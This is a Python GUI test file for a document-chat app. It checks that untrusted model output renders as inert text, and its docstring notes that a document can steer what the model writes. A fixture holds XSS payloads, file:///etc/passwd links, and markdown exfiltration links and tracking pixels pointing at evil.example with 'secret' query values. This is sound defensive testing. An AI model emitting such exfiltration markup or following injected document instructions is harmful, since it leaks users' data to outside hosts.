"""Model output is untrusted (a document can tell the model what to write): in the chat transcript it
is rendered as Markdown text only - no HTML runs, nothing is loaded, links only to Folio anchors."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from app.store.conversations import MessageRow
from ui.chat_panel import ChatPanel
from ui.safe_text import IMAGE_NOTE, defuse

pytestmark = pytest.mark.gui

HOSTILE = """The fee is due in 30 days [p. 2].

<script>alert('pwned')</script>
<img src="file:///etc/hostname" onerror="alert(1)">
<a href="javascript:alert(1)">html link</a>
<iframe src="http://evil.example/frame"></iframe>
<style>body { display: none }</style>

[markdown link](http://evil.example/steal?q=secret)
[local file](file:///etc/passwd) and [js](javascript:alert(1))
![pixel](http://evil.example/pixel.png?d=secret)
![local image](file:///etc/hostname)
<http://evil.example/autolink> and <mailto:someone@evil.example>
Visit https://evil.example/bare or www.evil.example today.
[reference link][1]

[1]: http://evil.example/ref
"""
EXTERNAL = ("evil.example", "file:", "javascript:", "mailto:")


def _formats(document: QTextDocument) -> tuple[list[str], list[str]]:
    """(hrefs of every link, names of every image) in a rendered document."""
    hrefs: list[str] = []
    images: list[str] = []
    block = document.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isImageFormat():
                images.append(fmt.toImageFormat().name())
            elif fmt.isAnchor() or fmt.anchorHref():
                hrefs.append(fmt.anchorHref())
            it += 1
        block = block.next()
    return hrefs, images


def _answer(text: str) -> MessageRow:
    return MessageRow(2, 1, 2, "assistant", text, "", [], "model", None, 10, 5, 0, 1.0, 1.0, "complete", None, "now")


def _assert_inert(panel: ChatPanel) -> None:
    document = panel.transcript.document()
    hrefs, images = _formats(document)
    # Only Folio's own links survive (here: the control that folds the thinking away).
    assert all(h.startswith("folio://") for h in hrefs) and images == []
    assert not any(bad in h for h in hrefs for bad in EXTERNAL)
    text = panel.transcript_text()
    # The HTML is shown as the characters it is, not interpreted...
    assert "<script>alert('pwned')</script>" in text and '<img src="file:///etc/hostname"' in text
    assert "<style>body { display: none }</style>" in text
    # ...link texts and images are still visible as text, so nothing is hidden from the reader.
    assert "markdown link" in text and "local file" in text and IMAGE_NOTE in text


def test_a_hostile_answer_renders_inert_while_streaming_and_when_done(qtbot) -> None:  # type: ignore[no-untyped-def]
    panel = ChatPanel()
    qtbot.addWidget(panel)
    panel.show()
    panel.begin_answer("What does <b>it</b> say? [x](http://evil.example/q)", [])
    panel.append("thinking", "[thinking link](http://evil.example/t) ![t](file:///etc/hostname)")
    panel.append("answer", HOSTILE)
    qtbot.waitUntil(lambda: "markdown link" in panel.transcript_text(), timeout=5000)
    _assert_inert(panel)
    panel.finish_answer(_answer(HOSTILE))
    _assert_inert(panel)
    assert "What does <b>it</b> say?" in panel.transcript_text()
    panel.transcript.grab()  # paint it: nothing may be fetched or followed while drawing either
    panel.show_messages([_answer(HOSTILE)])
    _assert_inert(panel)


def test_the_transcript_loads_no_resource_and_follows_no_link(qtbot) -> None:  # type: ignore[no-untyped-def]
    panel = ChatPanel()
    qtbot.addWidget(panel)
    browser = panel.transcript
    image = int(QTextDocument.ResourceType.ImageResource)
    for url in ("file:///etc/hostname", "http://evil.example/pixel.png", "qrc:/icon.png", "hostname"):
        assert browser.loadResource(image, QUrl(url)) is None
    assert not browser.openLinks() and not browser.openExternalLinks()
    before = browser.source()
    browser.anchorClicked.emit(QUrl("http://evil.example/steal"))  # as if a leftover link were clicked
    assert browser.source() == before


def test_folio_anchors_are_the_only_links_kept() -> None:
    document = QTextDocument()
    document.setMarkdown("[cite](folio:cite/3) [top](#top) [out](https://evil.example)")
    defuse(document)
    hrefs, _ = _formats(document)
    assert hrefs == ["folio:cite/3", "#top"]
    assert not any(h.startswith(EXTERNAL) for h in hrefs)


def test_model_quotes_in_extraction_tooltips_are_shown_as_written(ctx, contract_pdf) -> None:  # type: ignore[no-untyped-def]
    """Qt renders a tooltip that looks like HTML as HTML; a quote the model wrote must not be."""
    from PySide6.QtCore import Qt

    from app.extraction.runner import Cell, ExtractionService, load_table
    from app.extraction.templates import TemplateStore
    from inference.events import GenerationStats
    from ui.extraction_table import ExtractionTableModel

    doc = ctx.library.add(contract_pdf).document
    template = TemplateStore.for_config(ctx.paths.config_dir).get("nda")
    service = ExtractionService(ctx)
    run = service.start_run(template, [doc.id])
    quote = '<img src="file:///etc/hostname"><a href="http://evil.example">Delaware</a>'
    cell = Cell(doc.id, template.fields[0].key, True, "x", quote, "4", 4, "4", None, "not_found", 0.1)
    service._store(run, [cell], {}, GenerationStats(1, 0, 1, 1, 1, 1, "eos"))
    model = ExtractionTableModel(load_table(ctx, run))
    tooltip = model.data(model.index(0, 0), Qt.ItemDataRole.ToolTipRole)
    shown = QTextDocument()
    shown.setHtml(tooltip)  # what QToolTip does with it
    assert quote in shown.toPlainText()
    assert _formats(shown) == ([], [])
